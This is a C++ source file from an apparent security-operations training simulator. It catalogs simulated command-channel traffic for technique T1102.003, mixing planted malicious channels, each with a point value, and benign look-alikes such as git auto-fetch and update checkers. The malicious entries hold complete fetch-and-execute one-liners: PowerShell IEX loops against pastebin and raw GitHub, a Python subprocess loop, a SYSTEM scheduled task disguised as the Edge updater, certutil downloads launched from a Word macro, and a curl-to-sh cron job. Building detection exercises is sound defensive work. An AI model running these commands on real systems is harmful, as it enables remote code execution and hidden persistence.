#include "channel_catalog.h"

#include <algorithm>
#include <sstream>

namespace socwb::scenario {

namespace {

constexpr const char* kPsUa = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.3803";
constexpr const char* kPowerShell = R"~(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)~";
constexpr const char* kCmd = R"~(C:\Windows\System32\cmd.exe)~";
constexpr const char* kSchedule = R"~(C:\Windows\System32\svchost.exe)~";
constexpr const char* kScheduleCmd = R"~(C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule)~";

std::vector<ChannelSpec> buildCatalog() {
    std::vector<ChannelSpec> c;
    // ---- Positives: the four published adversary tests for T1102.003 ----
    c.push_back(
        {.id = "pastebin-powershell",
         .positive = true,
         .technique = "T1102.003",
         .service = "pastebin",
         .description = "PowerShell in a hidden window polls a pastebin raw URL every 60 s with Invoke-WebRequest "
                        "and runs what it gets with Invoke-Expression (published adversary test 1).",
         .pick = HostPick::Workstation,
         .intervalS = 60,
         .jitter = 0.02,
         .startHour = 9.3,
         .destHost = "pastebin.com",
         .target = "/raw/{token}",
         .bytesOut = 310,
         .bytesIn = 690,
         .bytesInSpread = 4,
         .contentType = "text/plain",
         .userAgent = kPsUa,
         .image = kPowerShell,
         .commandLine =
             R"~(powershell.exe -NoProfile -WindowStyle Hidden -Command "while($true){try{$r=Invoke-WebRequest -UseBasicParsing -Uri 'https://pastebin.com/raw/{token}';if($r.Content){Invoke-Expression $r.Content}}catch{};Start-Sleep -Seconds 60}")~",
         .points = 10});
    c.push_back(
        {.id = "github-python",
         .positive = true,
         .technique = "T1102.003",
         .service = "github",
         .description = "Python polls a file on raw.githubusercontent.com every ~30 s with urllib and runs it "
                        "(published adversary test 2); starts at night.",
         .pick = HostPick::Workstation,
         .intervalS = 30,
         .jitter = 0.03,
         .startHour = 26.5,
         .destHost = "raw.githubusercontent.com",
         .target = "/{token}/updates/main/cmd.txt",
         .bytesOut = 290,
         .bytesIn = 910,
         .bytesInSpread = 3,
         .contentType = "text/plain",
         .userAgent = "Python-urllib/3.11",
         .image = R"~(C:\Users\{user}\AppData\Local\Programs\Python\Python311\python.exe)~",
         .commandLine =
             R"~("C:\Users\{user}\AppData\Local\Programs\Python\Python311\python.exe" -c "import urllib.request,subprocess,time;u='https://raw.githubusercontent.com/{token}/updates/main/cmd.txt';[(subprocess.run(urllib.request.urlopen(u).read().decode(),shell=True),time.sleep(30)) for _ in iter(int,1)]")~",
         .points = 10});
    c.push_back(
        {.id = "telegram-curl",
         .positive = true,
         .technique = "T1102.003",
         .service = "telegram",
         .description = "A cmd.exe loop runs curl silently against the Telegram Bot API getUpdates every ~45 s "
                        "and writes the reply to %TEMP%\\tg_response.txt (published adversary test 3).",
         .pick = HostPick::Workstation,
         .intervalS = 46,
         .jitter = 0.02,
         .startHour = 33,
         .destHost = "api.telegram.org",
         .target = "/bot{token}/getUpdates",
         .bytesOut = 240,
         .bytesIn = 330,
         .bytesInSpread = 2,
         .contentType = "application/json",
         .userAgent = "curl/8.4.0",
         .image = R"~(C:\Windows\System32\curl.exe)~",
         .commandLine =
             R"~(curl -s -o C:\Users\{user}\AppData\Local\Temp\tg_response.txt https://api.telegram.org/bot{token}/getUpdates)~",
         .launcherImage = kCmd,
         .launcherCommandLine =
             R"~("C:\Windows\System32\cmd.exe" /c "for /l %i in (0,0,1) do (curl -s -o %TEMP%\tg_response.txt https://api.telegram.org/bot{token}/getUpdates & timeout /t 45 /nobreak >nul)")~",
         .processPerPoll = true,
         .fileCreated = R"~(C:\Users\{user}\AppData\Local\Temp\tg_response.txt)~",
         .points = 10});
    c.push_back(
        {.id = "schtask-edge-update",
         .positive = true,
         .technique = "T1102.003",
         .service = "github",
         .description = "A scheduled task named like the Edge updater runs PowerShell as SYSTEM every 15 minutes "
                        "to fetch and run a script from raw.githubusercontent.com (published adversary test 4).",
         .pick = HostPick::Workstation,
         .intervalS = 900,
         .jitter = 0.003,
         .startHour = 50,
         .destHost = "raw.githubusercontent.com",
         .target = "/{token}/edge-cfg/main/update.ps1",
         .bytesOut = 230,
         .bytesIn = 1480,
         .bytesInSpread = 2,
         .contentType = "text/plain",
         .userAgent = "", // Net.WebClient sends no User-Agent unless told to
         .image = kPowerShell,
         .commandLine =
             R"~(powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -Command "IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/{token}/edge-cfg/main/update.ps1')")~",
         .parentImage = kSchedule,
         .parentCommandLine = kScheduleCmd,
         .processPerPoll = true,
         .runAsSystem = true,
         .setupImage = R"~(C:\Windows\System32\schtasks.exe)~",
         .setupCommandLine =
             R"~(schtasks.exe /Create /F /SC MINUTE /MO 15 /RU SYSTEM /TN "MicrosoftEdgeUpdateTaskMachineUA" /TR "powershell.exe -NoProfile -NonInteractive -WindowStyle Hidden -Command \"IEX (New-Object Net.WebClient).DownloadString('https://raw.githubusercontent.com/{token}/edge-cfg/main/update.ps1')\"")~",
         .points = 10});
    // ---- Positives beyond the published tests ----
    c.push_back({.id = "jitter-unknown-binary",
                 .positive = true,
                 .technique = "T1102.003",
                 .service = "github",
                 .description = "An unsigned binary in the user's roaming profile polls a GitHub gist through the API "
                                "every ~5 minutes with ±60% jitter, sending the browser's User-Agent, on a developer's "
                                "workstation full of legitimate GitHub traffic.",
                 .pick = HostPick::Developer,
                 .intervalS = 300,
                 .jitter = 0.6,
                 .startHour = 11.7,
                 .destHost = "api.github.com",
                 .target = "/gists/{token}",
                 .bytesOut = 520,
                 .bytesIn = 2950,
                 .bytesInSpread = 40,
                 .contentType = "application/json; charset=utf-8",
                 .userAgent = "{browser}",
                 .image = R"~(C:\Users\{user}\AppData\Roaming\Microsoft\Crypto\cryptsvc.exe)~",
                 .commandLine = R"~("C:\Users\{user}\AppData\Roaming\Microsoft\Crypto\cryptsvc.exe" --background)~",
                 .points = 15});
    c.push_back({.id = "slow-wmi-powershell",
                 .positive = true,
                 .technique = "T1102.003",
                 .service = "github",
                 .description =
                     "A WMI event subscription starts encoded PowerShell as SYSTEM every ~2 hours on a server "
                     "to fetch a task from a gist: slow polling, hours apart.",
                 .pick = HostPick::WindowsServer,
                 .intervalS = 7200,
                 .jitter = 0.1,
                 .startHour = 5,
                 .destHost = "gist.githubusercontent.com",
                 .target = "/{token}/{hex}/raw/task.txt", // gist.githubusercontent.com/<user>/<gist id>/raw/<file>
                 .bytesOut = 300,
                 .bytesIn = 760,
                 .bytesInSpread = 3,
                 .contentType = "text/plain",
                 .userAgent = kPsUa,
                 .image = kPowerShell,
                 .commandLine = R"~(powershell.exe -nop -w hidden -enc {encoded})~",
                 .parentImage = R"~(C:\Windows\System32\wbem\WmiPrvSE.exe)~",
                 .parentCommandLine = R"~(C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding)~",
                 .processPerPoll = true,
                 .runAsSystem = true,
                 .points = 15});
    c.push_back(
        {.id = "working-hours-onedrive",
         .positive = true,
         .technique = "T1102.003",
         .service = "onedrive",
         .description = "A binary named like the OneDrive updater polls a shared OneDrive file every ~25 minutes "
                        "(±25%) only while the user is at the desk; OneDrive is not TLS-inspected, so the proxy "
                        "logs only CONNECT tunnels among the sync client's own.",
         .pick = HostPick::Workstation,
         .schedule = Schedule::WorkingHours,
         .intervalS = 1500,
         .jitter = 0.25,
         .startHour = 8,
         .destHost = "api.onedrive.com",
         .target = "/v1.0/shares/u!{token}/root/content",
         .bytesOut = 1650,
         .bytesIn = 5200,
         .bytesInSpread = 30,
         .contentType = "application/octet-stream",
         .userAgent = "{browser}",
         .image = R"~(C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdate.exe)~",
         .commandLine = R"~("C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdate.exe" /silent)~",
         .points = 20});
    c.push_back(
        {.id = "no-sysmon-wscript",
         .positive = true,
         .technique = "T1102.003",
         .service = "paste.ee",
         .description = "A VBScript in the Startup folder polls a paste.ee raw paste every ~2 minutes with "
                        "WinHttpRequest on a workstation without Sysmon: proxy and DNS are the only evidence.",
         .pick = HostPick::Workstation,
         .intervalS = 120,
         .jitter = 0.1,
         .startHour = 30,
         .destHost = "paste.ee",
         .target = "/r/{token}",
         .bytesOut = 280,
         .bytesIn = 610,
         .bytesInSpread = 3,
         .contentType = "text/plain; charset=utf-8",
         .userAgent = "Mozilla/4.0 (compatible; Win32; WinHttp.WinHttpRequest.5)",
         .image = R"~(C:\Windows\System32\wscript.exe)~",
         .commandLine =
             R"~("C:\Windows\System32\WScript.exe" "C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\sync.vbs")~",
         .noSysmon = true,
         .points = 15});
    c.push_back({.id = "dns-only-linux",
                 .positive = true,
                 .technique = "T1102.003",
                 .service = "rentry",
                 .description = "A cron job on a Linux server with direct egress (no proxy) and no Sysmon fetches a "
                                "rentry.co page every 10 minutes and pipes it to sh: only the DNS log sees it.",
                 .pick = HostPick::LinuxServer,
                 .intervalS = 600,
                 .jitter = 0.002,
                 .startHour = 3,
                 .destHost = "rentry.co",
                 .target = "/{token}/raw",
                 .bytesOut = 210,
                 .bytesIn = 540,
                 .bytesInSpread = 2,
                 .contentType = "text/plain",
                 .userAgent = "curl/7.88.1",
                 .image = "/usr/bin/curl",
                 .commandLine = "curl -fsS https://rentry.co/{token}/raw",
                 .parentImage = "/bin/sh",
                 .parentCommandLine = "/bin/sh -c curl -fsS https://rentry.co/{token}/raw | sh",
                 .processPerPoll = true,
                 .runAsSystem = true,
                 .noSysmon = true,
                 .directEgress = true,
                 .points = 20});
    c.push_back(
        {.id = "macro-gdocs-certutil",
         .positive = true,
         .technique = "T1102.003",
         .service = "google-docs",
         .description = "A Word macro starts a cmd.exe loop that runs certutil every ~20 minutes to download a "
                        "Google Docs export as text (a LOLBin with an Office grandparent).",
         .pick = HostPick::Workstation,
         .intervalS = 1200,
         .jitter = 0.05,
         .startHour = 32.5,
         .destHost = "docs.google.com",
         .target = "/document/d/{token}/export?format=txt",
         .bytesOut = 330,
         .bytesIn = 1210,
         .bytesInSpread = 5,
         .contentType = "text/plain; charset=utf-8",
         .userAgent = "Microsoft-CryptoAPI/10.0",
         .image = R"~(C:\Windows\System32\certutil.exe)~",
         .commandLine =
             R"~(certutil.exe -urlcache -split -f "https://docs.google.com/document/d/{token}/export?format=txt" C:\Users\{user}\AppData\Local\Temp\~wrd0001.tmp)~",
         .parentImage = R"~(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)~",
         .parentCommandLine =
             R"~("C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\{user}\Downloads\Invoice_0347.docm" /o "")~",
         .parentFresh = true,
         .launcherImage = kCmd,
         .launcherCommandLine =
             R"~("C:\Windows\System32\cmd.exe" /c "for /l %i in (0,0,1) do (certutil.exe -urlcache -split -f "https://docs.google.com/document/d/{token}/export?format=txt" %TEMP%\~wrd0001.tmp & timeout /t 1200 /nobreak >nul)")~",
         .processPerPoll = true,
         .fileCreated = R"~(C:\Users\{user}\AppData\Local\Temp\~wrd0001.tmp)~",
         .points = 15});
    c.push_back(
        {.id = "split-reddit-discord",
         .positive = true,
         .technique = "T1102.003",
         .service = "reddit",
         .description = "pythonw.exe reads commands from a Reddit profile every ~15 minutes (±30%) and posts "
                        "the output of each command it finds to a Discord webhook: retrieval and output over "
                        "different services.",
         .pick = HostPick::Workstation,
         .intervalS = 900,
         .jitter = 0.3,
         .startHour = 20,
         .destHost = "www.reddit.com",
         .target = "/user/{token}/about.json",
         .bytesOut = 360,
         .bytesIn = 2400,
         .bytesInSpread = 20,
         .contentType = "application/json; charset=UTF-8",
         .userAgent = "python-requests/2.31.0",
         .image = R"~(C:\Users\{user}\AppData\Local\Programs\Python\Python312\pythonw.exe)~",
         .commandLine =
             R"~("C:\Users\{user}\AppData\Local\Programs\Python\Python312\pythonw.exe" "C:\Users\{user}\AppData\Roaming\Microsoft\Windows\Libraries\libsync.pyw")~",
         .outputHost = "discord.com",
         .outputTarget = "/api/webhooks/{token2}/{token}",
         .outputEvery = 8,
         .points = 20});

    // ---- Look-alikes: benign traffic that resembles a one-way channel ----
    c.push_back(
        {.id = "dev-git-autofetch",
         .service = "github",
         .description = "VS Code auto-fetch runs git every 3 minutes against the team's GitHub repositories "
                        "while developers work.",
         .pick = HostPick::AllDevelopers,
         .schedule = Schedule::WorkingHours,
         .intervalS = 180,
         .jitter = 0.01,
         .destHost = "github.com",
         .target = "/corp-example/{repo}.git/info/refs?service=git-upload-pack",
         .bytesOut = 420,
         .bytesIn = 1900,
         .bytesInSpread = 150,
         .contentType = "application/x-git-upload-pack-advertisement",
         .userAgent = "git/2.43.0.windows.1",
         .image = R"~(C:\Program Files\Git\mingw64\libexec\git-core\git-remote-https.exe)~",
         .commandLine =
             R"~("C:\Program Files\Git\mingw64\libexec\git-core\git-remote-https.exe" origin https://github.com/corp-example/{repo}.git)~",
         .parentImage = R"~(C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe)~",
         .parentCommandLine = R"~("C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code\Code.exe")~",
         .processPerPoll = true});
    c.push_back({.id = "ci-runner-gitlab",
                 .service = "gitlab",
                 .description = "The GitLab runner on the build server asks gitlab.com for jobs every few seconds "
                                "(204 No Content while there is nothing to build).",
                 .pick = HostPick::BuildServer,
                 .intervalS = 6,
                 .jitter = 0.05,
                 .destHost = "gitlab.com",
                 .method = "POST",
                 .target = "/api/v4/jobs/request",
                 .bytesOut = 980,
                 .bytesIn = 260,
                 .bytesInSpread = 0,
                 .status = 204,
                 .contentType = "-",
                 .userAgent = "gitlab-runner 16.9.1 (16-9-stable; go1.21.7; linux/amd64)",
                 .image = "/usr/bin/gitlab-runner",
                 .commandLine = "/usr/bin/gitlab-runner run --working-directory /home/gitlab-runner --config "
                                "/etc/gitlab-runner/config.toml --service gitlab-runner --user gitlab-runner",
                 .parentImage = "/usr/lib/systemd/systemd",
                 .parentCommandLine = "/sbin/init",
                 .runAsSystem = true,
                 .keepAliveS = 90});
    c.push_back({.id = "ansible-pull",
                 .service = "github",
                 .description = "ansible-pull on every Linux server fetches the configuration repository from GitHub "
                                "every 30 minutes (with splay).",
                 .pick = HostPick::AllLinuxServers,
                 .intervalS = 1800,
                 .jitter = 0.05,
                 .destHost = "github.com",
                 .target = "/corp-example/infra-config.git/info/refs?service=git-upload-pack",
                 .bytesOut = 380,
                 .bytesIn = 2300,
                 .bytesInSpread = 60,
                 .contentType = "application/x-git-upload-pack-advertisement",
                 .userAgent = "git/2.39.2",
                 .image = "/usr/lib/git-core/git-remote-https",
                 .commandLine = "git-remote-https origin https://github.com/corp-example/infra-config.git",
                 .parentImage = "/usr/bin/python3",
                 .parentCommandLine =
                     "/usr/bin/python3 /usr/bin/ansible-pull -U https://github.com/corp-example/infra-config.git",
                 .processPerPoll = true,
                 .runAsSystem = true});
    c.push_back(
        {.id = "chef-client",
         .service = "github",
         .description = "chef-client on every Windows server reads cookbook metadata from raw.githubusercontent.com "
                        "every 30 minutes.",
         .pick = HostPick::AllServers,
         .intervalS = 1800,
         .jitter = 0.08,
         .destHost = "raw.githubusercontent.com",
         .target = "/corp-example/chef-cookbooks/main/metadata.json",
         .bytesOut = 300,
         .bytesIn = 1730,
         .bytesInSpread = 0,
         .contentType = "text/plain; charset=utf-8",
         .userAgent = "Chef Client/18.3.0 (ruby-3.1.2-p20; ohai-18.1.4; x86_64-mingw32; +https://chef.io)",
         .image = R"~(C:\opscode\chef\embedded\bin\ruby.exe)~",
         .commandLine =
             R"~(C:\opscode\chef\embedded\bin\ruby.exe --disable-gems C:\opscode\chef\bin\chef-client --daemonize)~",
         .parentImage = R"~(C:\Windows\System32\services.exe)~",
         .parentCommandLine = R"~(C:\Windows\system32\services.exe)~",
         .runAsSystem = true});
    c.push_back(
        {.id = "endpoint-baseline-sync",
         .service = "github",
         .description = "IT's scheduled task on every workstation runs PowerShell as SYSTEM each hour to fetch the "
                        "endpoint baseline from the company's public GitHub repository: a scripting engine, a task "
                        "scheduler parent and a raw GitHub URL, like a planted channel, on the whole fleet.",
         .pick = HostPick::AllWorkstations,
         .intervalS = 3600,
         .jitter = 0.04,
         .destHost = "raw.githubusercontent.com",
         .target = "/corp-example/endpoint-baseline/main/baseline.json",
         .bytesOut = 250,
         .bytesIn = 4210,
         .bytesInSpread = 0,
         .contentType = "text/plain; charset=utf-8",
         .userAgent = kPsUa,
         .image = kPowerShell,
         .commandLine =
             R"~(powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\Program Files\CorpIT\Sync-Baseline.ps1")~",
         .parentImage = kSchedule,
         .parentCommandLine = kScheduleCmd,
         .processPerPoll = true,
         .runAsSystem = true});
    c.push_back({.id = "threat-intel-feed",
                 .service = "github",
                 .description =
                     "CrowdSec on the Linux servers pulls its hub index (threat-intel scenarios and blocklists) "
                     "from a public GitHub repository every hour.",
                 .pick = HostPick::AllLinuxServers,
                 .intervalS = 3600,
                 .jitter = 0.02,
                 .destHost = "raw.githubusercontent.com",
                 .target = "/crowdsecurity/hub/master/.index.json",
                 .bytesOut = 260,
                 .bytesIn = 91800,
                 .bytesInSpread = 500,
                 .contentType = "text/plain; charset=utf-8",
                 .userAgent = "crowdsec/v1.6.0-debian-pragmatic-amd64",
                 .image = "/usr/bin/crowdsec",
                 .commandLine = "/usr/bin/crowdsec -c /etc/crowdsec/config.yaml",
                 .parentImage = "/usr/lib/systemd/systemd",
                 .parentCommandLine = "/sbin/init",
                 .runAsSystem = true,
                 .keepAliveS = 0});
    c.push_back(
        {.id = "google-updater",
         .service = "google-apis",
         .description = "Google Update checks for Chrome updates every ~5 hours from a scheduled task.",
         .pick = HostPick::AllWorkstations,
         .intervalS = 18000,
         .jitter = 0.1,
         .destHost = "update.googleapis.com",
         .method = "POST",
         .target = "/service/update2/json?cup2key=13:{num}&cup2hreq={hex}",
         .bytesOut = 2100,
         .bytesIn = 1150,
         .bytesInSpread = 60,
         .contentType = "application/json",
         .userAgent = "Google Update/1.3.36.372;winhttp",
         .image = R"~(C:\Program Files (x86)\Google\Update\GoogleUpdate.exe)~",
         .commandLine = R"~("C:\Program Files (x86)\Google\Update\GoogleUpdate.exe" /ua /installsource scheduler)~",
         .parentImage = kSchedule,
         .parentCommandLine = kScheduleCmd,
         .processPerPoll = true,
         .runAsSystem = true});
    c.push_back({.id = "github-release-check",
                 .service = "github",
                 .description = "ShareX checks the GitHub releases API for a new version every 6 hours.",
                 .pick = HostPick::SomeWorkstations,
                 .share = 0.3,
                 .intervalS = 21600,
                 .jitter = 0.05,
                 .destHost = "api.github.com",
                 .target = "/repos/ShareX/ShareX/releases?per_page=1",
                 .bytesOut = 250,
                 .bytesIn = 9800,
                 .bytesInSpread = 100,
                 .contentType = "application/json; charset=utf-8",
                 .userAgent = "ShareX",
                 .image = R"~(C:\Program Files\ShareX\ShareX.exe)~",
                 .commandLine = R"~("C:\Program Files\ShareX\ShareX.exe" -silent)~"});
    c.push_back(
        {.id = "teams-heartbeat",
         .service = "microsoft-teams",
         .description = "Microsoft Teams keeps its service connections alive all day; Microsoft 365 traffic is "
                        "not TLS-inspected, so the proxy logs CONNECT tunnels.",
         .pick = HostPick::AllWorkstations,
         .intervalS = 30,
         .jitter = 0.1,
         .destHost = "teams.microsoft.com",
         .target = "/api/chatsvc/emea/v1/users/ME/properties",
         .bytesOut = 900,
         .bytesIn = 1400,
         .bytesInSpread = 300,
         .contentType = "application/json",
         .userAgent = "{browser}",
         .image = R"~(C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe)~",
         .commandLine = R"~("C:\Users\{user}\AppData\Local\Microsoft\Teams\current\Teams.exe" --system-initiated)~",
         .keepAliveS = 120});
    c.push_back(
        {.id = "onedrive-sync",
         .service = "onedrive",
         .description = "The OneDrive sync client checks for changes every few minutes (tunnelled, not inspected).",
         .pick = HostPick::AllWorkstations,
         .intervalS = 240,
         .jitter = 0.4,
         .destHost = "api.onedrive.com",
         .target = "/v1.0/drives/me/root/delta",
         .bytesOut = 1500,
         .bytesIn = 3100,
         .bytesInSpread = 900,
         .contentType = "application/json",
         .userAgent = "Microsoft SkyDriveSync 23.038.0219.0001 ship; Windows NT 10.0 (19045)",
         .image = R"~(C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe)~",
         .commandLine = R"~("C:\Users\{user}\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background)~",
         .keepAliveS = 60});
    c.push_back({.id = "edr-agent",
                 .service = "microsoft-defender",
                 .description = "The Defender for Endpoint sensor reports to its cloud every 5 minutes (tunnelled).",
                 .pick = HostPick::AllWorkstations,
                 .intervalS = 300,
                 .jitter = 0.05,
                 .destHost = "winatp-gw-weu.microsoft.com",
                 .method = "POST",
                 .target = "/commands/",
                 .bytesOut = 4200,
                 .bytesIn = 900,
                 .bytesInSpread = 80,
                 .contentType = "application/json",
                 .userAgent = "MSDW",
                 .image = R"~(C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe)~",
                 .commandLine = R"~("C:\Program Files\Windows Defender Advanced Threat Protection\MsSense.exe")~",
                 .parentImage = R"~(C:\Windows\System32\services.exe)~",
                 .parentCommandLine = R"~(C:\Windows\system32\services.exe)~",
                 .runAsSystem = true,
                 .keepAliveS = 120});
    c.push_back({.id = "slack-client",
                 .service = "slack",
                 .description = "The Slack desktop client refreshes its cache every minute.",
                 .pick = HostPick::SomeWorkstations,
                 .share = 0.35,
                 .intervalS = 60,
                 .jitter = 0.1,
                 .destHost = "edgeapi.slack.com",
                 .target = "/cache/T0{hex}/users/info",
                 .bytesOut = 700,
                 .bytesIn = 1300,
                 .bytesInSpread = 200,
                 .contentType = "application/json; charset=utf-8",
                 .userAgent =
                     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                     "Slack/4.36.140 Chrome/120.0.6099.56 Electron/28.1.0 Safari/537.36 Sonic Slack_SSB/4.36.140",
                 .image = R"~(C:\Users\{user}\AppData\Local\slack\app-4.36.140\slack.exe)~",
                 .commandLine = R"~("C:\Users\{user}\AppData\Local\slack\app-4.36.140\slack.exe" --startup)~",
                 .keepAliveS = 120});
    c.push_back({.id = "discord-client",
                 .service = "discord",
                 .description = "The Discord desktop client sends telemetry to discord.com every couple of minutes.",
                 .pick = HostPick::SomeWorkstations,
                 .share = 0.12,
                 .intervalS = 120,
                 .jitter = 0.3,
                 .destHost = "discord.com",
                 .method = "POST",
                 .target = "/api/v9/science",
                 .bytesOut = 1900,
                 .bytesIn = 350,
                 .bytesInSpread = 0,
                 .status = 204,
                 .contentType = "-",
                 .userAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                              "discord/1.0.9032 Chrome/120.0.6099.291 Electron/28.2.10 Safari/537.36",
                 .image = R"~(C:\Users\{user}\AppData\Local\Discord\app-1.0.9032\Discord.exe)~",
                 .commandLine = R"~("C:\Users\{user}\AppData\Local\Discord\app-1.0.9032\Discord.exe")~",
                 .keepAliveS = 120});
    c.push_back({.id = "telegram-desktop",
                 .service = "telegram",
                 .description = "Telegram Desktop keeps an MTProto connection to a Telegram data centre by address "
                                "(tunnelled, no DNS).",
                 .pick = HostPick::SomeWorkstations,
                 .share = 0.1,
                 .intervalS = 60,
                 .jitter = 0.05,
                 .destHost = "149.154.167.51",
                 .target = "/api",
                 .bytesOut = 300,
                 .bytesIn = 300,
                 .bytesInSpread = 100,
                 .contentType = "-",
                 .userAgent = "",
                 .image = R"~(C:\Users\{user}\AppData\Roaming\Telegram Desktop\Telegram.exe)~",
                 .commandLine = R"~("C:\Users\{user}\AppData\Roaming\Telegram Desktop\Telegram.exe" -autostart)~",
                 .keepAliveS = 900});
    c.push_back(
        {.id = "gdoc-tab",
         .service = "google-docs",
         .description = "A browser tab holding a Google Doc open long-polls docs.google.com about once a minute "
                        "while its user works.",
         .pick = HostPick::SomeWorkstations,
         .share = 0.15,
         .schedule = Schedule::WorkingHours,
         .intervalS = 55,
         .jitter = 0.15,
         .destHost = "docs.google.com",
         .method = "POST",
         .target = "/document/d/{token}/bind?id={token}&VER=8&gsessionid={hex}&SID={hex}&RID=rpc&TYPE=xmlhttp&CI=0",
         .bytesOut = 1100,
         .bytesIn = 420,
         .bytesInSpread = 60,
         .contentType = "text/plain; charset=utf-8",
         .userAgent = "{browser}",
         .image = "{browser}",
         .commandLine = R"~("{browser}" --restore-last-session)~",
         .keepAliveS = 300});
    // The "sensor" scenario (#26): no proxy, a network sensor at the edge. Appended last so the
    // channels above keep their index (each channel's random draws derive from it).
    c.push_back({.id = "sensor-telegram-tls",
                 .positive = true,
                 .technique = "T1102.003",
                 .service = "telegram",
                 .description = "An unsigned binary in the user's profile on a workstation without Sysmon polls the "
                                "Telegram Bot API over TLS about every 5 minutes; no proxy: only the network sensor's "
                                "connections and TLS server names see it.",
                 .pick = HostPick::Workstation,
                 .intervalS = 300,
                 .jitter = 0.3,
                 .startHour = 9,
                 .destHost = "api.telegram.org",
                 .target = "/bot{token}/getUpdates?offset=0&timeout=0",
                 .bytesOut = 310,
                 .bytesIn = 230,
                 .bytesInSpread = 4,
                 .contentType = "application/json",
                 .userAgent = "",
                 .image = R"~(C:\Users\{user}\AppData\Local\Temp\tgsvc.exe)~",
                 .commandLine = R"~("C:\Users\{user}\AppData\Local\Temp\tgsvc.exe" -k)~",
                 .noSysmon = true,
                 .directEgress = true,
                 .points = 20,
                 .scenario = "sensor"});
    c.push_back({.id = "sensor-slack-websocket",
                 .service = "slack",
                 .description = "Slack's desktop client holds one WebSocket to its message server for more than a "
                                "day: one long TLS session whose messages inside no sensor can count.",
                 .pick = HostPick::Workstation,
                 .intervalS = 1e9,
                 .startHour = 6,
                 .destHost = "wss-primary.slack.com",
                 .target = "/websocket/{token}",
                 .bytesOut = 900,
                 .bytesIn = 2400,
                 .contentType = "-",
                 .image = R"~(C:\Users\{user}\AppData\Local\slack\app-4.36.140\slack.exe)~",
                 .commandLine = R"~("C:\Users\{user}\AppData\Local\slack\app-4.36.140\slack.exe" --startup)~",
                 .holdS = 30 * 3600,
                 .scenario = "sensor"});
    return c;
}

} // namespace

const std::vector<ChannelSpec>& ChannelCatalog::all() {
    static const std::vector<ChannelSpec> kAll = buildCatalog();
    return kAll;
}

const std::vector<ChannelSpec>& ChannelCatalog::forWorld(int world) {
    static const std::vector<ChannelSpec> kWorld2 = buildWorld2Catalog();
    return world == 2 ? kWorld2 : all();
}

const ChannelSpec* ChannelCatalog::find(const std::string& id, int world) {
    for (const auto& s : forWorld(world)) {
        if (id == s.id) {
            return &s;
        }
    }
    return nullptr;
}

bool ChannelCatalog::isOptInScenario(const std::string& name, int world) {
    const auto& specs = forWorld(world);
    return !name.empty() &&
           std::any_of(specs.begin(), specs.end(), [&](const ChannelSpec& s) { return name == s.scenario; });
}

bool ChannelCatalog::scenarioNamed(const std::string& scenarios, const char* name) {
    std::stringstream ss(scenarios);
    std::string item;
    while (std::getline(ss, item, ',')) {
        if (item == name) {
            return true;
        }
    }
    return false;
}

std::vector<std::string> ChannelCatalog::scenarioNames(int world) {
    std::vector<std::string> names{"all", "sample", "easy", "medium", "hard", "none"};
    if (world == 1) {
        names.emplace_back("sensor");
    }
    if (world == 2) {
        names = {"all", "none"};
    }
    for (const auto& s : forWorld(world)) {
        if (s.positive) {
            names.emplace_back(s.id);
        }
    }
    return names;
}

std::vector<std::string> ChannelCatalog::positivesFor(const std::string& scenario, std::string* unknown, int world) {
    std::vector<std::string> out;
    auto add = [&out](const std::string& id) {
        if (std::find(out.begin(), out.end(), id) == out.end()) {
            out.push_back(id);
        }
    };
    std::stringstream ss(scenario);
    std::string name;
    while (std::getline(ss, name, ',')) {
        if (name == "all") {
            for (const auto& s : forWorld(world)) {
                if (s.positive && !*s.scenario) {
                    add(s.id);
                }
            }
        } else if (isOptInScenario(name, world)) {
            for (const auto& s : forWorld(world)) {
                if (s.positive && name == s.scenario) {
                    add(s.id);
                }
            }
        } else if (name == "none") {
            // look-alikes only: a baseline with no planted channel
        } else if (world == 2) {
            if (const ChannelSpec* s = find(name, world); s && s->positive) {
                add(s->id);
            } else {
                if (unknown) {
                    *unknown = name;
                }
                return {};
            }
        } else if (name == "easy") {
            add("pastebin-powershell");
        } else if (name == "medium") {
            add("jitter-unknown-binary");
        } else if (name == "hard") {
            add("working-hours-onedrive");
            add("dns-only-linux");
        } else if (name == "sample") {
            for (const char* id : {"pastebin-powershell", "telegram-curl", "jitter-unknown-binary", "no-sysmon-wscript",
                                   "dns-only-linux", "macro-gdocs-certutil"}) {
                add(id);
            }
        } else if (const ChannelSpec* s = find(name); s && s->positive) {
            add(s->id);
        } else {
            if (unknown) {
                *unknown = name;
            }
            return {};
        }
    }
    return out;
}

} // namespace socwb::scenario
